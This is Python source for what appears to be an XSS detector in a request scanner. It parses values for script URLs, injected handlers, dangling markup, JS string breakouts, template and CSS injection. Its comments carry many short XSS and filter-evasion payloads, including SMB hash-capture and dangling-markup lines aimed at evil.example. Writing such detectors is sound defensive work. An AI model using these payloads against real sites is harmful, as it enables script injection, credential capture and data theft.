            # `&#38&#35&#49&#48&#54` (&#106, "j"): references to references, for a layer that decodes twice
            once = decode_entities(value[:4096])
            twice = script_url(decode_entities(once)) if "&#" in once else ""
            hit = twice + " (character references encoded twice)" if twice else ""
        if hit:
            best.add(Severity.HIGH, "script-url", attr.start, attr.end, f"<{tag} {an}={hit}>")
            return
        if an in _LOADS_ON_ITS_OWN and _file_share(value):
            # <img src="\\evil.example\x.png">: Windows fetches it over SMB and signs in with the user's
            # NTLM credentials (hash capture, relay), no click needed
            best.add(Severity.HIGH, "file-share-url", attr.start, attr.end, f"<{tag} {an}=...> on a Windows file share")
            return
        if an in _LINK_ATTRIBUTES:
            why = evasive_url(value)
            if not why and value.startswith("``"):
                why = "IE back-tick quoting"  # <a href=``calc``>: a quote only old IE honours, past quote filters
            if why:  # <a href="h tt\tp://6&#09;6.000146.0x7.147/">: a link spelled to pass a filter
                best.add(Severity.HIGH, "evasive-link", attr.start, attr.end, f"<{tag} {an}=...> with {why}")
                return
    if ("(" in value or "`" in value) and (an not in _TEXT_ATTRIBUTES or value[:1] in "*/'\"") \
            and best.handlers < _MAX_HANDLERS_READ:
        best.handlers += 1
        # <body scroll=alert(1)>, <video poster=prompt(1)//>, <p title="*/prompt(1)'">: the value is a call
        # that pops up or runs code (an attribute some page script evaluates, or a handler filter probe)
        js = read_js(tokenize_js(decode_entities(value[:256]), 0, 48))
        if js.sink and _strong(js.sink) and js.sink_index <= 2 and js.valid_until > js.sink_index + 2:
            best.add(Severity.HIGH, "attribute-code", attr.start, attr.end, f"<{tag} {an}={js.sink}>")


_DANGLING_SCHEMES = ("http://", "https://", "//", "\\\\", "ftp://")
# URL attributes the browser fetches without a click (a link left open only leaks when followed,
# and a cut-off comment with a link in it is ordinary)
_LOADS_ON_ITS_OWN = frozenset({"src", "background", "poster", "lowsrc", "dynsrc", "data", "srcset"})


def _left_open(v: str, tag: str, attr: HtmlAttr, best: _Best) -> None:
    """The value ends inside a quoted URL attribute it opened.

    `<img src="//evil.example/?` (dangling markup): the page's own text, up to its next
    quote (CSRF tokens, e-mail addresses, messages), becomes part of the URL and goes to
    that host, no script needed. `<img src='javasc` is a script URL cut short by a length
    limit. An editor or a form never sends a tag with its attribute value left open."""
    if not attr.has_value or attr.name not in _LINK_ATTRIBUTES:
        return
    eq = v.find("=", attr.start, attr.end)
    k = eq + 1
    while 0 < k < len(v) and v[k] in " \t\r\n":
        k += 1
    quote = v[k:k + 1]
    if eq < 0 or quote not in ("'", '"') or quote in v[k + 1:]:
        return
    url = decode_entities(v[k + 1:k + 1 + 256]).strip().lower()
    if url.startswith(_DANGLING_SCHEMES) and len(url) > 4 and attr.name in _LOADS_ON_ITS_OWN:
        best.add(Severity.HIGH, "dangling-markup", attr.start, attr.end,
                 f"<{tag} {attr.name}={quote}{url[:24]}... left open: the page's text goes to that host")
        return
    flat = url.translate(_SCHEME_STRIP)
    if len(flat) >= 4 and any(s.startswith(flat) for s in ("javascript:", "vbscript:")):
        best.add(Severity.HIGH, "script-url", attr.start, attr.end, f"<{tag} {attr.name}={quote}{flat}> (cut short)")


def _file_share(value: str) -> bool:
    """A UNC path (`\\\\host\\share`, `\\\\?\\UNC\\...`) or a file: URL naming a host (`file://host/x`)."""
    v = decode_entities(value[:256]).strip().strip("\"'`").lower()
    if v.startswith("\\\\") and len(v) > 3 and (v[2].isalnum() or v.startswith("\\\\?\\unc")):
        return True
    return v.startswith("file://") and len(v) > 7 and v[7] not in "/\\"


def _scheme_without_colon(value: str) -> str:
    """`javascript#alert(1)`, `javascript'+x+'`: a script scheme whose colon a filter took (or that
    gets it from elsewhere) followed by code reaching a sink; '' otherwise. No URL starts so."""
    low = value[:256].lstrip("\\\"'` ").lower()
    for scheme in ("javascript", "vbscript"):
        if low.startswith(scheme) and low[len(scheme):len(scheme) + 1] in ("#", "'", "\"", "&", ";"):
            js = read_js(tokenize_js(low, len(scheme) + 1, 48))
            if js.sink and js.valid_until > js.sink_index:
                return f"{scheme} (colon missing) reaching {js.sink}"
    return ""


# Attributes that only hold text shown to the user (a title may quote code).
_TEXT_ATTRIBUTES = frozenset({"title", "alt", "placeholder", "label", "aria-label", "summary", "abbr", "value"})
# Attributes whose URL the browser navigates to or loads when markup is injected.
_LINK_ATTRIBUTES = frozenset({"href", "src", "xlink:href", "action", "formaction", "background", "poster",
                              "data", "lowsrc", "dynsrc"})
_SCHEME_STRIP = dict.fromkeys(range(0, 33))  # str.translate table: controls and blanks deleted


def embedded_script_scheme(text: str) -> str:
    """'javascript:' (or vbscript:) anywhere in text once references and blanks are undone, else ''."""
    low = text[:4096].lower()
    if "script" not in low and "&" not in low and "\\" not in low:
        return ""
    flat = decode_entities(low).translate(_SCHEME_STRIP)
    for scheme in ("javascript:", "vbscript:", "livescript:"):
        if scheme in flat:
            return scheme
    return ""


def _meta_url(content: str) -> str:
    low = content.lower()
    k = low.find("url=")
    return content[k + 4:] if k >= 0 else content


def _looks_like_script_url(value: str) -> bool:
    low = value[:64].lower()
    return "script" in low or "&#" in low or "data:" in low or "&colon" in low


def script_url(value: str) -> str:
    """'javascript:' / 'data:text/html' ... when the URL runs code or renders a document; else ''."""
    value = value.lstrip("\\\"'` ")  # quoting left over from the layer that carried the value
    scheme, rest = url_scheme(value)
    if not scheme:
        return ""
    if scheme in SCRIPT_SCHEMES:
        return scheme + ":"
    if scheme == "data":
        media = data_url_type(rest)
        if media in ACTIVE_DATA_TYPES or media.startswith(("text/html", "image/svg", "application/xhtml")):
            return "data:" + (media or "(no type)")
    return ""


# ------------------------------------------------------------------ attribute injection


# Attributes that make a handler fire without the user doing anything.
_FIRES = {"onerror": frozenset({"src", "poster", "data"}), "onfocus": frozenset({"autofocus"}),
          "onfocusin": frozenset({"autofocus"}), "onblur": frozenset({"autofocus"}),
          "onload": frozenset({"src", "data"}), "onbegin": frozenset({"dur", "begin"}),
          "onanimationstart": frozenset({"style"}), "ontoggle": frozenset({"open"})}


def _attribute_injection(v: str, best: _Best) -> None:
    """The value ends a quoted (or unquoted) attribute value and adds attributes of its own."""
    starts: list[int] = []
    for q in ('"', "'", "`"):  # old IE also quotes attribute values with back ticks
        i = v.find(q)
        if i >= 0:
            starts.append(i + 1)
    if v[:1] == "[":
        close = v.find("]", 1, 12)
        if close > 0 and v[close + 1:close + 3].lower() == "on":
            starts.append(close + 1)  # `[\x0B]onx=...`: a fuzzer's placeholder for the blank before the attribute
    if " " in v or "/" in v or "\t" in v or "\n" in v or v[:2].lower() == "on":
        # an unquoted attribute value ends at the first blank; or the value is an attribute
        # itself (`onerror=prompt(1)` for a template's `<img {{attrs}}>`)
        starts.append(0)
    for s in starts:
        attrs, _, _ = scan_attributes(v, s, stop_at_gt=s > 0)
        names = {a.name.lstrip("\"'/`") for a in attrs}
        for attr in attrs:
            an = attr.name.lstrip("\"'/`")
            if not attr.has_value or not attr.value.strip():
                continue
            if s > 0 and an not in EVENTS and an.startswith("on") and len(an) > 4 and an[2:].isalpha():
                # `" onpagereveal="alert(1)`: out of the quote, a handler-shaped name (browsers add events
                # every year) whose value calls what pops up or runs code
                js = read_js(tokenize_js(decode_entities(attr.value[:256]), 0, 48))
                if js.sink and _strong(js.sink) and js.valid_until > js.sink_index:
                    best.add(Severity.HIGH, "attribute-injection", attr.start, attr.end,
                             f"{an}= handler-shaped attribute reaching {js.sink}")
                continue
            if an in EVENTS:
                js = read_js(tokenize_js(decode_entities(attr.value)))
                if js.sink or script_url(attr.value):
                    best.add(Severity.HIGH, "attribute-injection", attr.start, attr.end,
                             f"{an}= handler reaching {js.sink or 'a script URL'}")
                elif js.valid_until > 0 and any(t.text == "(" for t in tokenize_js(attr.value, 0, 32)):
                    best.add(Severity.HIGH, "attribute-injection", attr.start, attr.end, f"{an}= handler")
                elif s > 0 and not names.isdisjoint(_FIRES.get(an, ())):
                    # `" type=image src=null onerror=X`: out of the quote, a handler and what fires it
                    best.add(Severity.HIGH, "attribute-injection", attr.start, attr.end,
                             f"{an}= handler fired by " + "/".join(sorted(names & _FIRES[an])))
                else:
                    best.add(Severity.MEDIUM, "attribute-injection", attr.start, attr.end, f"{an}= handler")
            elif an == "style" and s > 0:
                hit = css_danger(decode_entities(attr.value))
                if hit:
                    best.add(Severity.HIGH, "attribute-injection", attr.start, attr.end, f"style with {hit}")
            elif an in ("src", "href", "action", "formaction", "data", "xlink:href", "srcdoc") and s > 0:
                hit = script_url(attr.value)
                if hit:
                    best.add(Severity.HIGH, "attribute-injection", attr.start, attr.end, f"{an}={hit}")


# ------------------------------------------------------------------ URLs


def _url_value(v: str, best: _Best) -> None:
    """The whole value (or a key=value's value) is a URL that runs script when followed."""
    candidates = [0]
    eq = v.find("=")
    if 0 < eq < 64:
        candidates.append(eq + 1)
    md = v.find("](")
    if 0 < md < 256:
        candidates.append(md + 2)  # a Markdown link: [text](javascript:...)
    for start in candidates:
        hit = script_url(v[start:])
        if not hit:
            hidden = _scheme_hidden_by_references(v[start:start + 96])
            if hidden:
                best.add(Severity.HIGH, "script-url", start, len(v), f"{hidden} hidden with character references")
                return
            continue
        if hit.startswith("data:"):
            best.add(Severity.HIGH, "script-url", start, len(v), hit + " URL")
            return
        raw = v[start:].lstrip("\\\"'` ").lower()
        if not raw.startswith(hit) and "&" in raw[:len(hit) + 24]:
            # "ja&Tab;vascript&colon;": references inside the scheme are there to hide it.
            best.add(Severity.HIGH, "script-url", start, len(v), f"{hit} URL hidden with character references")
            return
        if raw.startswith(hit) and len(raw) > len(hit) and raw[len(hit)] not in " \t\r\n":
            best.add(Severity.HIGH, "script-url", start, len(v), f"{hit} URL")
            return
        scheme, rest = url_scheme(v[start:].lstrip("\\\"'` "))
        if "%" in rest:
            rest = percent_once(rest[:4096])  # browsers percent-decode a javascript: URL before running it
        toks = tokenize_js(rest)
        js = read_js(toks)
        if js.sink and js.valid_until > js.sink_index or (scheme != "javascript" and "(" in rest):
            best.add(Severity.HIGH, "script-url", start, len(v), f"{hit} URL reaching {js.sink or 'code'}")
            return
        if js.valid_until == len(toks) and any(t.text == "(" for t in toks):
            best.add(Severity.HIGH, "script-url", start, len(v), f"{hit} URL with code")
            return


    low = v.lower()
    k = low.find("script:")
    if k > 0 and (low[:k].endswith(("java", "vb", "live"))):
        js = read_js(tokenize_js(v[k + 7:]))
        if js.sink and js.valid_until > js.sink_index:
            best.add(Severity.HIGH, "script-url", max(0, k - 4), len(v), f"script URL reaching {js.sink}")


def _scheme_hidden_by_references(head: str) -> str:
    """`ja&tab;vascript&colon;`, `v&newline;b&tab;s...`: a script scheme with reference-shaped tokens
    between its letters, in any case (a browser only decodes `&Tab;`, a filter or a later
    case-folding layer may decode more); '' otherwise. Only there to hide the scheme from a filter."""
    if "&" not in head[:12] or not head[:1].isalpha():
        return ""
    out: list[str] = []
    i, n = 0, len(head)
    while i < n and len(out) < 16:
        c = head[i]
        if c == "&":
            j = i + 1
            while j < n and j - i < 12 and (head[j].isalnum() or head[j] == "#"):
                j += 1
            name = head[i + 1:j].lower()
            if head[j:j + 1] == ";" and name not in ("amp", "#38", "#x26"):  # AT&amp;T is a literal "&"
                out.append(":" if name == "colon" else "")
                i = j + 1
                continue
        if c > " ":
            out.append(c.lower())
        i += 1
    flat = "".join(out)
    for scheme in ("javascript:", "vbscript:", "livescript:"):
        if flat.startswith(scheme):
            return scheme
    return ""


# ------------------------------------------------------------------ JavaScript contexts

_BREAKOUT_STARTERS = frozenset({";", ")", "]", "}", ",", "+", "-", "*", "/", "%", "||", "&&", "|", "&", "^",
                                "?", ":", "==", "===", "!=", "!==", "<", ">", "<=", ">=", "=", "??", "**",
                                "in", "instanceof", "<<", ">>", ">>>"})


def _js_contexts(v: str, best: _Best) -> None:
    # the tokens from a start, read once (the readers below share starting points, and streams
    # from different starts share the text they both cover)
    tokens_at = TokenStreams(v).at
    # Inside a JS string: the value closes it and continues as code.
    k = v.find("${")
    if k >= 0:
        # Inside a template literal: ${...} is code (`${alert(1)}`)
        toks = tokenize_js(v, k + 2, 64)
        js = read_js(toks)
        if js.sink and _strong(js.sink) and js.valid_until > js.sink_index:
            best.add(Severity.HIGH, "js-breakout", k, len(v), f"${{...}} template code reaching {js.sink}")
            return
        if len(toks) >= 2 and toks[0].kind == IDENT and toks[0].text in _STRONG_LEAVES and \
                toks[1].kind == COMMENT and toks[1].text.startswith("/*") and toks[1].start == toks[0].end:
            # `${alert/*`: a runner named in a substitution, then a comment over the page's text up
            # to where the payload's other half (`*/(1)}`) calls it
            best.add(Severity.HIGH, "js-breakout", k, toks[1].end, f"${{{toks[0].text}/*: a runner, then a comment")
            return
    for q in ("'", '"', "`"):
        i = v.find(q)
        if i < 0:
            continue
        toks = tokens_at(i + 1)
        code = [t for t in toks if t.kind != COMMENT]
        if not code:
            continue
        first = code[0]
        if not (first.kind == PUNCT and first.text in _BREAKOUT_STARTERS or
                first.kind == IDENT and first.text in ("in", "instanceof")):
            continue
        js = read_js(toks)
        if js.sink and js.valid_until > js.sink_index:
            t = toks[js.sink_index]
            best.add(Severity.HIGH, "js-breakout", i, t.end, f"{q}...{js.sink}: code after closing a {q} string")
            return
    _statement_frame(v, tokens_at, best)
    if best.v is not None and best.v.severity >= Severity.HIGH:
        return
    # Bare script context (the value is code already, or the code of a handler whose
    # start was cut: `alert(1)><input autofocus>`, `"prompt(1)">`): only calls that execute.
    starts = _code_starts(v)
    if starts[0] == 0 and _starts_with_text_markup(v):
        starts = starts[1:]  # `<b>alert(1)</b>`: text in an element the page shows, not script
    for start in starts:
        _bare_code(v, tokens_at(start), best)
        if best.v is not None and best.v.severity >= Severity.HIGH:
            break
    if best.v is None or best.v.severity < Severity.HIGH:
        _handler_tail(v, best)
    if best.v is None or best.v.severity < Severity.HIGH:
        _folded_code(v, best, tokens_at)
    if "&{" in v:
        # Netscape JavaScript entities: &{code};
        k = v.find("&{")
        js = read_js(tokenize_js(v, k + 2, 128))
        if js.sink:
            best.add(Severity.HIGH, "js-code", k, len(v), f"&{{...}} script entity reaching {js.sink}")


_FRAME_CLOSERS = frozenset({")", "]", "}"})
_FRAME_QUOTES = frozenset("'\"`")


def _statement_frame(v: str, tokens_at, best: _Best) -> None:
    """`";a.b=c;//`, `');x=1;//`: the value closes a JS string (and the brackets around it), ends
    the statement, runs one of its own and comments out the rest of the page's line. No sink is
    needed: the frame itself is the proof that input runs as code (what a scanner sends before
    the payload). Text with a quote and a semicolon has no valid code or no `//` at its end."""
    for q in ("'", '"', "`"):
        i = v.find(q)
        if i < 0 or i > 8 or any(c.isspace() for c in v[:i]):
            continue
        toks = tokens_at(i + 1)
        if len(toks) < 5 or toks[-1].kind != COMMENT or not toks[-1].text.startswith("//"):
            continue
        k = 0
        while k < len(toks) and toks[k].kind == PUNCT and toks[k].text in _FRAME_CLOSERS:
            k += 1
        if k >= len(toks) or toks[k].text != ";":
            continue
        body = [t for t in toks[k + 1:-1] if t.kind != COMMENT]
        if len(body) < 3 or not any(t.kind == IDENT for t in body) or \
                not any(t.kind == PUNCT and t.text in ("=", "(") for t in body):
            continue
        if read_js(toks, k + 1).valid_until == len(toks):
            best.add(Severity.HIGH, "js-breakout", i, len(v),
                     f"closes a {q} string, runs a statement and comments out the rest of the line")
            return


# Elements whose content is text the page shows (or raw text that never runs: <xmp>, <textarea>).
_TEXT_ELEMENTS = HTML_ELEMENTS - SCRIPT_TAGS - EMBEDDING_TAGS - frozenset(
    {"svg", "math", "style", "template", "noscript", "plaintext", "meta", "link", "base", "object", "param"})


def _starts_with_text_markup(v: str) -> bool:
    """`<b>alert(1)</b>`, `<pre>alert(document.cookie)</pre>`: the value opens with a plain start
    tag of an element that holds text (no attributes), so what follows is text of that element,
    the way a comment quoting code reads. In a script context a value cannot start with a
    tag, and markup that runs (handlers, <script>, script URLs) is judged as HTML anyway."""
    head = v.lstrip()
    if head[:1] != "<":
        return False
    k = 1
    while k < len(head) and k <= 12 and head[k].isalnum():
        k += 1
    return k > 1 and head[k:k + 1] == ">" and head[1:k].lower() in _TEXT_ELEMENTS


# Line terminators, also as the placeholders fuzzers write for them
_LINE_ENDS = ("\n", "\r", "\u2028", "\u2029", "[U+2028]", "[U+2029]", "[u+2028]", "[u+2029]")


def _code_starts(v: str) -> list[int]:
    """Where the value may start being code: its start (after a leading quote), after the end
    of a block comment (`*/alert(1)/*`), after a line
    end (`//comment%0dconfirm(1)//`: a line terminator ends the page's // comment) and after
    the first statement end (`x\\'; alert(document.cookie);//`: a value written into script
    after a character set ate the escaping). At most six."""
    starts = [1, 0] if v[:1] in "\"'" else [0]
    for end in _LINE_ENDS:
        k = v.find(end, 0, 2048)
        while k >= 0 and len(starts) < 5:
            starts.append(k + len(end))
            k = v.find(end, k + 1, 2048)
    semi = v.find(";", 0, 256)
    if semi >= 0:
        starts.append(semi + 1)
    close = v.find("*/", 0, 256)
    if close >= 0:
        starts.insert(1, close + 2)  # `*/alert(1)/*`: the value ends the page's /* comment
    return starts[:6]


# A handler value with its start cut: the code, then the rest of the tag the value was put in.
_HANDLER_SCOPE_CALLS = frozenset({"write", "writeln"})  # document.write in a handler's scope


def _handler_tail(v: str, best: _Best) -> None:
    """`write(1) autofocus>`: the end of an unquoted event handler (`<input onfocus=VALUE>`), a
    call that handler code reaches through the document in its scope, then attributes that
    fire it and the tag's end."""
    toks = tokenize_js(v, 0, 64)
    if len(toks) < 3 or toks[0].kind != IDENT or toks[0].text not in _HANDLER_SCOPE_CALLS or toks[1].text != "(":
        return
    after = _after_call(toks, 0)
    if after is None or after >= len(toks) or after == 0:
        return
    attrs, _, closed = scan_attributes(v, toks[after - 1].end)
    if closed and all(a.name.isalpha() for a in attrs):
        best.add(Severity.HIGH, "js-code", 0, toks[after - 1].end, f"handler code calling document.{toks[0].text}() "
                 "and the end of its tag")


_OBFUSCATION = frozenset({"assembled", "computed-call", "lookup-call"})


def _folded_code(v: str, best: _Best, tokens_at) -> None:
    """Code that reaches a runner indirectly or assembles a dangerous name (see js_fold): the
    value as code, and the code after the first quote of each kind (a string broken out of)."""
    starts = [0]
    for q in ("'", '"', "`"):
        i = v.find(q)
        if i >= 0:
            starts.append(i + 1)
    readings = [tokens_at(start) for start in starts]
    first = min((i for i in (v.find("'"), v.find('"')) if i >= 0), default=-1)
    if first > 0 and v[first + 1:first + 2] == "." and v[first] not in v[:first]:
        # `~~)1(trela+tpircsavaj'.split('').reverse()...`: the value is the rest of a string the page
        # opened, then methods that turn it into code; read with the page's opening quote
        readings.append(tokenize_js(v[first] + v))
    for toks in readings:
        check_spent()
        tricks = fold_js(toks)
        if tricks:
            t = tricks[0]
            rule = "js-obfuscation" if t.how in _OBFUSCATION else "js-code"
            best.add(Severity.HIGH, rule, t.start, t.end, f"script code: {t.how} {t.what}")
            return


def _bare_code(v: str, toks: list, best: _Best) -> None:
    if not toks:
        return
    js = read_js(toks)
    if js.sink and js.valid_until > js.sink_index:
        t = toks[js.sink_index]
        after = _after_call(toks, js.sink_index)
        whole = js.valid_until == len(toks) or _ends_code(toks, js.valid_until) or (
            after is not None and (after >= len(toks) or toks[after].text in (">", "/", ";", "//", '"', "'")
                                   or toks[after].kind in ("c", "s")))
        lead = js.first is not None and js.first.kind == PUNCT and js.first.text in (";", ")", "}", "]")
        leak = js.sink.rstrip("=") in _GLOBAL_LEAKS and (js.sink.endswith("=") or _obfuscated(v))
        if _strong(js.sink):
            call_is_code = after is not None and (js.valid_until >= after if after < len(toks)
                                                  else js.valid_until == len(toks))
            if call_is_code or js.sink.startswith("${"):
                best.add(Severity.HIGH if whole else Severity.MEDIUM, "js-code", t.start, t.end,
                         f"script code calling {js.sink}")
        elif whole and _creates_script(toks, js.sink_index):
            best.add(Severity.HIGH, "js-code", t.start, t.end, "script code creating a <script> element")
        elif whole and (lead or js.sink.endswith("=") and "." in js.sink or leak or _navigates(js.sink)):
            # ";location.href='//evil'//" or "document.location='//evil'": navigation or data
            # written from code that the value completes.
            best.add(Severity.HIGH, "js-code", t.start, t.end, f"script code reaching {js.sink}")


_STRONG_LEAVES = frozenset({"alert", "prompt", "confirm", "eval", "execscript", "msgbox", "function",
                            "settimeout", "setinterval", "fromcharcode", "globaleval", "getscript",
                            "importscripts", "activexobject", "}"})
_DOCUMENT_WRITERS = frozenset({"write", "writeln", "createelement", "appendchild", "insertadjacenthtml"})


def _strong(sink: str) -> bool:
    """A call that runs code or pops up whatever the page does around it."""
    if not sink.endswith("()"):
        return False
    leaf = sink[:-2].rsplit(".", 1)[-1]
    return (sink in STRONG_CALLS or leaf in _STRONG_LEAVES or "constructor" in sink or "[...]" in sink
            or sink.startswith("${") or (sink.startswith("document.") and leaf in _DOCUMENT_WRITERS))


_GLOBAL_LEAKS = ("document.cookie", "document.domain", "window.location", "document.location",
                 "top.location", "self.location", "parent.location", "window.name", "localstorage")


def _navigates(sink: str) -> bool:
    """location.assign(url), window.location.replace(url), external.NavigateAndFind(url): code
    that sends the page elsewhere, like an assignment to location."""
    path = sink[:-2].split(".") if sink.endswith("()") else []
    return len(path) >= 2 and (path[-1] in ("assign", "replace", "navigate") and "location" in path
                               or path[-1] == "navigateandfind")


_ACTIVE_ELEMENTS = frozenset({"script", "iframe", "embed", "object"})


def _creates_script(toks: list, i: int) -> bool:
    """createElement('script') (also under with(document)): code that loads more code."""
    return (i + 2 < len(toks) and toks[i].text == "createelement" and toks[i + 1].text == "("
            and toks[i + 2].kind == "s" and toks[i + 2].text.strip().lower() in _ACTIVE_ELEMENTS)


def _after_call(toks: list, i: int) -> int | None:
    """Index after the argument list of the call whose callee path starts at i (None: no arguments)."""
    n = len(toks)
    j = i
    while j < n and toks[j].text != "(" and toks[j].kind != "t" and j - i < 24:
        j += 1
    if j >= n:
        return None
    if toks[j].kind == "t":
        return j + 1  # tagged template
    if j + 1 >= n:
        return None  # "eval(" cut off before any argument: a name, not a call
    depth = 0
    while j < n:
        if toks[j].text == "(":
            depth += 1
        elif toks[j].text == ")":
            depth -= 1
            if depth == 0:
                return j + 1
        j += 1
    return n  # unclosed, but with arguments: the page's text may close it


def _obfuscated(v: str) -> bool:
    """document['cookie'], document/**/.cookie, (document).cookie: written to dodge filters."""
    return any(c in v for c in ("[", "(", "/*")) or " ." in v or ". " in v


def _ends_code(toks: list, valid_until: int) -> bool:
    """The part that is not code starts after a statement end (';', a comment), or is the
    end of a tag or attribute (`>`, a closing quote) right after the code."""
    prev = toks[valid_until - 1] if valid_until > 0 else None
    if prev is not None and (prev.kind == COMMENT or prev.text in (";", "}")):
        return True
    nxt = toks[valid_until] if valid_until < len(toks) else None
    return prev is not None and prev.text == ")" and nxt is not None and (
        nxt.text in (">", "/") or nxt.kind == "s" and nxt.start == prev.end)


# ------------------------------------------------------------------ templates


def _template(v: str, best: _Best) -> None:
    start = v.find("{{")
    tries = 0
    while start >= 0 and tries < 8:
        tries += 1
        end = v.find("}}", start + 2)
        inner = v[start + 2: end if end >= 0 else len(v)]
        toks = tokenize_js(inner, 0, 256)
        words = {t.text for t in toks if t.kind == IDENT}
        js = read_js(toks)
        hit = sorted(words & TEMPLATE_WORDS)
        if (hit and (js.sink or any(t.text == "(" for t in toks))) or _strong(js.sink):
            best.add(Severity.HIGH, "template-injection", start, end + 2 if end >= 0 else len(v),
                     "template expression using " + ", ".join(hit[:3] or [js.sink]))
            return
        if end < 0:
            break  # unclosed: every later "{{" is inside this expression, already read
        start = v.find("{{", start + 2)


# ------------------------------------------------------------------ CSS

_CSS_HEX = frozenset("0123456789abcdefABCDEF")


def normalise_css(text: str) -> str:
    """Lower-case CSS with comments removed, escapes decoded and blanks dropped.

    Escapes are decoded inside strings too: url('\\6a\\61vascript:...') loads
    javascript:...; an escape of U+0000 is dropped (old IE skipped it: -m\\0o\\0z-binding)."""
    out: list[str] = []
    n = min(len(text), 8192)
    i = 0
    while i < n:
        c = text[i]
        if c == "/" and i + 1 < n and text[i + 1] == "*":
            j = text.find("*/", i + 2)
            i = n if j < 0 else j + 2
            continue
        if c in "\"'" and i + 1 < n:
            # A CSS string: kept (without its quotes); "/*" inside it is not a comment.
            j = text.find(c, i + 1, n)
            while j > 0 and _escaped(text, j):
                j = text.find(c, j + 1, n)
            if j > 0:
                out.append(_css_unescape(text[i + 1:j]))
                i = j + 1
                continue
        if c == "\\" and i + 1 < n:
            ch, i = _css_escape(text, i, n)
            out.append(ch)
            continue
        if c not in " \t\r\n\x0c\x0b\"'":
            out.append(c)
        i += 1
    return "".join(out).lower()


def _escaped(text: str, j: int) -> bool:
    k = j - 1
    while k >= 0 and text[k] == "\\":
        k -= 1
    return (j - 1 - k) % 2 == 1


def _css_escape(text: str, i: int, n: int) -> tuple[str, int]:
    """The character of the escape at text[i] == "\\" and the index after it."""
    j = i + 1
    while j < n and j - i <= 6 and text[j] in _CSS_HEX:
        j += 1
    if j > i + 1:
        try:
            cp = int(text[i + 1:j], 16)
            ch = chr(cp) if 0 < cp <= 0x10FFFF else ""
        except (ValueError, OverflowError):
            ch = ""
        if j < n and text[j] in " \t\n":
            j += 1
        return ch, j
    return (text[i + 1] if text[i + 1] not in "\r\n\x0c" else ""), i + 2


def _css_unescape(text: str) -> str:
    if "\\" not in text:
        return text.lower()
    out: list[str] = []
    i, n = 0, len(text)
    while i < n:
        if text[i] == "\\" and i + 1 < n:
            ch, i = _css_escape(text, i, n)
            out.append(ch)
            continue
        out.append(text[i])
        i += 1
    return "".join(out).lower()


def css_danger(text: str) -> str:
    """What in a CSS fragment runs script or loads code ('' when nothing)."""
    css = normalise_css(text)
    if "expression(" in css:
        return "expression()"
    for marker in ("url(javascript:", "url(vbscript:", "url(livescript:"):
        if marker in css:
            return marker + "...)"
    if "url(data:" in css and any(t in css for t in ("text/html", "svg", "javascript")):
        return "url(data:...)"
    if "-moz-binding:" in css or "binding:url(" in css:  # -moz-binding, and the unprefixed spelling probes try
        return "-moz-binding"
    if "behavior:" in css or "behaviour:" in css or "-ms-behavior:" in css or "behavior=url(" in css:
        return "behavior"
    if "@import" in css:
        return "@import"
    if "javascript:" in css or "vbscript:" in css:
        return "script URL"
    if "-o-link-source:" in css or "-o-link:" in css:
        return "-o-link"
    return ""


def _css_fragment(v: str, best: _Best) -> None:
    """A CSS declaration without a tag: `x:expression(alert(1))`, `background:url(javascript:...)`."""
    css = normalise_css(v)
    for marker, what in ((":expression(", "expression()"), (":url(javascript:", "url(javascript:)"),
                         (":url(vbscript:", "url(vbscript:)"), ("-moz-binding:", "-moz-binding"),
                         ("behavior:url(", "behavior"), ("@import", "@import")):
        if marker in css:
            if marker == "@import" and not any(m in css for m in ("@importurl(", "@import'", "@import\"",
                                                                   "@importjavascript", "@importdata:")):
                if not ("@import" + "'" in v.lower().replace(" ", "") or '@import"' in v.lower().replace(" ", "")):
                    continue
            best.add(Severity.HIGH, "css", 0, len(v), f"CSS {what}")
            return
    k = css.rfind(":url(")
    if k >= 0:
        tail = css[k + 5:].lstrip("'\"")
        if len(tail) >= 4 and any(s.startswith(tail) for s in ("javascript:", "vbscript:")):
            # `x:url(javascript` at the very end: a script URL in a declaration, cut short by a length limit
            best.add(Severity.HIGH, "css", k, len(v), "CSS url() with a script URL cut short")
            return
    k = css.find("expression(")
    if k >= 0:
        # width=expression(alert(1)) (BBCode attributes, a filter that keeps the call): code in it
        js = read_js(tokenize_js(css, k + 10, 64))
        if js.sink and _strong(js.sink):
            best.add(Severity.HIGH, "css", 0, len(v), f"CSS expression() reaching {js.sink}")


# ------------------------------------------------------------------ detector


@register
class XssDetector(Detector):
    name = "xss"
    triggers = (
        r"<[a-z!/?\x{ff01}-\x{ff5e}]|\x{ff1c}",
        r"(?:^|[^a-z0-9])on[a-z]{3,}\s*=",
        r"(?:java|vb|live)\s*script|mocha\s*:|data\s*:|&#|&(?:colon|tab|newline|lpar|rpar|sol);|&lt;?[a-z/!]",
        r"expression\s*\(|url\s*\(|behaviou?r|-moz-binding|@import|-o-link",
        r"\{\{",
        r"alert|prompt|confirm|eval|execscript|msgbox|fromcharcode|settimeout|setinterval|constructor|"
        r"atob|document\s*[.\[]|window\s*[.\[]|location|cookie|innerhtml|globalthis|getscript|import\s*\(|"
        r"fetch\s*\(|\\u00|(?:top|self|parent|frames)\s*\[|function\s*\(|!\[\]|createelement|navigateandfind|"
        r"(?:^|[^a-z.])write(?:ln)?\s*\(",
        # markup spelt with blanks or quotes between its letters (< s c r i p t >, '<'s'v'g'), a
        # tag name starting with a non-ASCII letter (<ſcript>, mojibake <Å¿cript>)
        r"<['\"\s]{1,3}[a-z]|<[\x{80}-\x{ffff}]",
        # names assembled by short-circuit or conditional operators ('jav'||'', !''&&'ascript', 0?'1':'al')
        r"(?:\|\||&&)\s*['\"]|\?\s*['\"][^'\"]{0,16}['\"]\s*:",
        r"/\*|\\[0-9a-f]{2}|\+ad[w4]-",
        # a statement frame: a closed string, `;`, code, and a comment over the rest of the line
        r"^[^\s'\"`]{0,8}['\"`][)\]}]{0,3};.*//[^\n]{0,32}$",
        # obfuscated code: names assembled from pieces ('ev'+'al', /al/.source), computed calls
        r"['\"`/]\s*\+\s*['\"`/(!]|\.\s*source(?:[^a-z]|$)|\]\s*\(|\.\s*tostring\s*\(\s*\d|\.reverse\s*\(",
    )

    def __init__(self) -> None:
        self._analyse = RecentResults(analyse)  # headers and cookies repeat request after request

    def scan_input(self, inp: Input) -> Iterable[Finding]:
        v = self._analyse(inp.value)
        if v is None:
            return ()
        return (Finding("xss", f"xss.{v.rule}", v.severity, inp.location,
                        excerpt(v.form or inp.value, v.start, max(v.end, v.start + 1), inp.location),
                        inp.chain, detail=v.detail),)
